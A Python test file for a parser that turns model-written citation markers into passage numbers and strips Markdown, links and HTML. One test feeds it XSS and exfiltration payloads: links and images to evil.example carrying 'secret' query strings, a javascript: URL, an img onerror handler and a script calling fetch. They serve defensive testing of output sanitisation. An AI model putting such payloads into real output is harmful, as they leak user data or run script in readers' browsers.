"""Citations as models write them: all kinds of markers, Markdown, and whatever else comes."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.ask.writing.citing import CitedSentence, has_marker, parse

PASSAGES = ["The map is at https://maps.example/harbor?id=7 for all.", "Two.", "Three.", "Four."]


def read(text: str, *, complete: bool = True) -> list[tuple[str, tuple[int, ...]]]:
    return [(s.text, s.numbers) for s in parse(text, PASSAGES, complete=complete)]


@pytest.mark.parametrize(
    ("written", "numbers"),
    [
        ("Boats pay ten euros [1].", (1,)),
        ("Boats pay ten euros. [1]", (1,)),
        ("Boats pay ten euros.[1]", (1,)),
        ("Boats [1] pay ten euros.", (1,)),
        ("[1] Boats pay ten euros.", (1,)),
        ("Boats pay ten euros [1, 2].", (1, 2)),
        ("Boats pay ten euros [2][1].", (2, 1)),
        ("Boats pay ten euros [1] [3].", (1, 3)),
        ("Boats pay ten euros [1; 3].", (1, 3)),
        ("Boats pay ten euros [1 and 3].", (1, 3)),
        ("Boats pay ten euros [1-3].", (1, 2, 3)),
        ("Boats pay ten euros [2–99].", (2, 3, 4)),
        ("Boats pay ten euros [1][1].", (1,)),
        ("Boats pay ten euros (1).", (1,)),
        ("Boats pay ten euros (1, 2).", (1, 2)),
        ("Boats pay ten euros (Source 2).", (2,)),
        ("Boats pay ten euros【1】.", (1,)),
        ("Boats pay ten euros【3:0†source】.", (3,)),
        ("Boats pay ten euros [^1].", (1,)),
        ("Boats pay ten euros [Source 1].", (1,)),
        ("Boats pay ten euros [passage 2].", (2,)),
        ("Boats pay ten euros [Passages 2, 3].", (2, 3)),
        ("Boats pay ten euros [Source 1, Source 4].", (1, 4)),
        ("Boats pay ten euros [[1]].", (1,)),
        ("Boats pay ten euros [[1]](http://elsewhere.example/x).", (1,)),
        ("Boats pay ten euros [1](http://elsewhere.example/x).", (1,)),
        ("Boats pay ten euros \\[1\\].", (1,)),
        ("Boats pay ten euros¹.", (1,)),
        ("Boats pay ten euros.¹²", (1, 2)),
        ("Boats pay ten euros<sup>3</sup>.", (3,)),
        ("Boats pay ten euros<cite>3</cite>.", (3,)),
        ("Boats pay ten euros **[1]**.", (1,)),
        ("Boats pay ten euros [**1**].", (1,)),
        ("Boats pay ten euros &#91;1&#93;.", (1,)),
        ("Boats pay ten euros [0].", ()),
        ("Boats pay ten euros [99].", ()),
        ("Boats pay ten euros [99][2].", (2,)),
        ("Boats pay ten euros.", ()),
        ("Boats pay ten euros 1].", (1,)),
        ("According to passage 2, boats pay ten euros.", (2,)),
        ("<think>Passage [3] says so.</think>Boats pay ten euros [1].", (1,)),
        ("Boats pay ten euros [1].\n\n[1]: http://elsewhere.example/", (1,)),
        ("Boats pay ten euros [1].\n\n[^1]: Harbor rules, page 3", (1,)),
        ("Boats pay ten euros [1].\n\n**Sources:**\n- [1] Harbor rules\n- [2] Fees", (1,)),
        ("Boats pay ten euros [1].\n\n## References\n1. Harbor rules\n2. Fees", (1,)),
        ("Boats pay ten euros [1].\n\nSources: [1], [2]", (1,)),
    ],
)
def test_every_kind_of_marker_becomes_a_number(written: str, numbers: tuple[int, ...]) -> None:
    assert read(written) == [("Boats pay ten euros.", numbers)]


def test_an_unclosed_marker_at_the_end_counts() -> None:
    assert read("Boats pay ten euros [2") == [("Boats pay ten euros", (2,))]


def test_markers_belong_to_the_sentence_they_follow() -> None:
    assert read("Boats pay ten euros. [1] Barges pay double. [2][3] Rowers pay nothing [1].") == [
        ("Boats pay ten euros.", (1,)),
        ("Barges pay double.", (2, 3)),
        ("Rowers pay nothing.", (1,)),
    ]


def test_markers_in_front_of_every_sentence_belong_to_what_follows() -> None:
    assert read("[1] Boats pay ten euros. [2] Barges pay double.") == [
        ("Boats pay ten euros.", (1,)),
        ("Barges pay double.", (2,)),
    ]


def test_a_marker_on_a_line_of_its_own_belongs_to_the_line_before() -> None:
    assert read("Boats pay ten euros.\n\n[2]") == [("Boats pay ten euros.", (2,))]


@pytest.mark.parametrize(
    "text",
    [
        "The basin has 40 m² and 10⁶ liters.",
        "It was founded in [2024] by three clubs.",
        "The limit (30) was raised, see e.g. pier 4.",
        "Ask Mr. Silva, approx. 3 p.m. on Fridays.",
    ],
)
def test_what_is_no_citation_stays_in_the_text(text: str) -> None:
    assert read(text) == [(text, ())]


def test_round_brackets_are_no_citations_where_square_ones_are() -> None:
    [(text, numbers)] = read("Three ways exist: by boat (1), by car (2) [3].")
    assert text == "Three ways exist: by boat (1), by car (2)."
    assert numbers == (3,)


def test_markdown_becomes_plain_text() -> None:
    written = (
        "# Fees\n\nBoats pay **ten** `euros` _a day_ [1].\n\n"
        "- Barges pay double [2]\n- Rowers pay *nothing* [3]\n\n"
        "1. Register first [1]\n2. Then pay [2]\n\n"
        "| Boat | Fee |\n|---|---|\n| Barge | 20 [2] |\n| Kayak | 0 [3] |\n\n"
        "```sh\npay --now\n```\n"
    )
    assert read(written) == [
        ("Boats pay ten euros a day.", (1,)),
        ("Barges pay double", (2,)),
        ("Rowers pay nothing", (3,)),
        ("Register first", (1,)),
        ("Then pay", (2,)),
        ("Boat: Barge; Fee: 20", (2,)),
        ("Boat: Kayak; Fee: 0", (3,)),
        ("pay --now", ()),
    ]


def test_a_line_that_leads_on_joins_what_follows() -> None:
    assert read("You need:\n\n- a permit [1]\n- a boat [2]") == [
        ("You need: a permit", (1,)),
        ("a boat", (2,)),
    ]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See [the map](https://evil.example/?q=secret) [2].", "See the map."),
        ("![chart](https://evil.example/p.png?d=secret) Fees rise [2].", "chart Fees rise."),
        ("Go to https://evil.example/a?b=c now [2].", "Go to now."),
        ("Go to www.evil.example/a now [2].", "Go to now."),
        ("Go to evil.example/a?secret now [2].", "Go to now."),
        ("Go <a href='https://evil.example/'>there</a> now [2].", "Go there now."),
        ("Go [there](javascript:alert(1)) now [2].", "Go there now."),
        ("Go [there][x] now [2].\n\n[x]: https://evil.example/", "Go there now."),
        ("Stay <img src=x onerror=alert(1)>here [2].", "Stay here."),
        ("Stay here<script>fetch('//evil.example')</script> [2].", "Stay here."),
    ],
)
def test_links_images_and_html_leave_only_their_words(written: str, shown: str) -> None:
    assert read(written) == [(shown, (2,))]


def test_an_address_stays_as_text_only_where_the_cited_passage_holds_it() -> None:
    address = "https://maps.example/harbor?id=7"
    assert read(f"The map is at {address} [1].") == [(f"The map is at {address}.", (1,))]
    assert read(f"The map is at {address} [2].") == [("The map is at.", (2,))]
    assert read(f"See [the map]({address}) [1].") == [(f"See the map ({address}).", (1,))]
    assert read(f"The map is at {address}&leak=1 [1].") == [("The map is at.", (1,))]


def test_hidden_characters_do_not_come_through() -> None:
    written = "Boats\u200b pay\u202e ten\U000e0041 euros\ufeff [1]."
    assert read(written) == [("Boats pay ten euros.", (1,))]


@pytest.mark.parametrize(
    "end",
    ["[", "[1", "[Source", "【1", "![al", "[text](https://evil.ex", "https://evil.exa", "<img src",
     "<b", "**", "&#91", "(Sou", "`", "!["],
)  # fmt: skip
def test_an_end_that_may_become_something_else_is_held_back(end: str) -> None:
    [(text, numbers)] = read(f"Boats pay ten euros {end}", complete=False)
    assert text.startswith("Boats pay ten euros")
    assert not set(text) & set("[]<>*`!&【(")
    assert "evil" not in text
    assert numbers == ()


def test_drafts_grow_without_changing_sentences_that_are_done() -> None:
    whole = "Boats pay ten euros [1]. Barges pay double [2][3]. Rowers pay nothing [4]."
    final = read(whole)
    for end in range(len(whole)):
        draft = read(whole[:end], complete=False)
        for settled, later in zip(draft[:-1], final, strict=False):
            assert settled == later


_PIECES = st.sampled_from(
    ["[1]", "[2, 3]", "[1-3]", "(1)", "【1】", "[^1]", "[Source 1]", "¹²", "[1", "1]", "[0]",
     "[99]", "[", "]", "(", ")", "**", "# ", "- ", "1. ", "| a | b |\n|---|---|\n", "```\n", "`",
     "<b>", "</b>", "<think>", "</think>", "<!--", "[x](y)", "![x](http://e.example)", "\n\n",
     "http://e.example/x", "\n", " ", ". ", "? ", "Word", "passage 2", "Sources:", "[1]: x",
     "&#91;", "\\", "<sup>1</sup>", "\ue101", "\u202e", "e.g. ", "2", ",", "–"]
)  # fmt: skip


@settings(deadline=None, max_examples=300)
@given(
    st.one_of(st.lists(_PIECES, max_size=25).map("".join), st.text(max_size=200)),
    st.integers(0, 6),
    st.booleans(),
)
def test_whatever_is_written_gives_valid_numbers_and_no_marker(
    text: str, passages: int, complete: bool
) -> None:
    for sentence in parse(text, ["p"] * passages, complete=complete):
        assert isinstance(sentence, CitedSentence)
        assert all(1 <= number <= passages for number in sentence.numbers)
        assert len(set(sentence.numbers)) == len(sentence.numbers)
        assert any(map(str.isalnum, sentence.text))
        assert not has_marker(sentence.text)
        assert sentence.text == " ".join(sentence.text.split())
        assert not any("\ue000" <= character <= "\uf8ff" for character in sentence.text)


@pytest.mark.parametrize(
    "piece",
    ["[1,", "[", "(", "[1", "¹", "passage 1 and ", "<sup>1", "sources:\n", "[source ", "a://",
     "![a](", "a.", "**", "| a ", "1,", "[[1]((", "\\[", "\n", "(see ,", "<think>", "[1] ", "<"],
)  # fmt: skip
def test_no_text_takes_long_to_read(piece: str) -> None:
    text = (piece * 16_000)[:16_000]  # as long as a model's answer can be
    started = time.thread_time()
    parse(text, PASSAGES)
    # 0.3 s for the worst of these on a busy machine; a runaway expression takes minutes
    assert time.thread_time() - started < 5
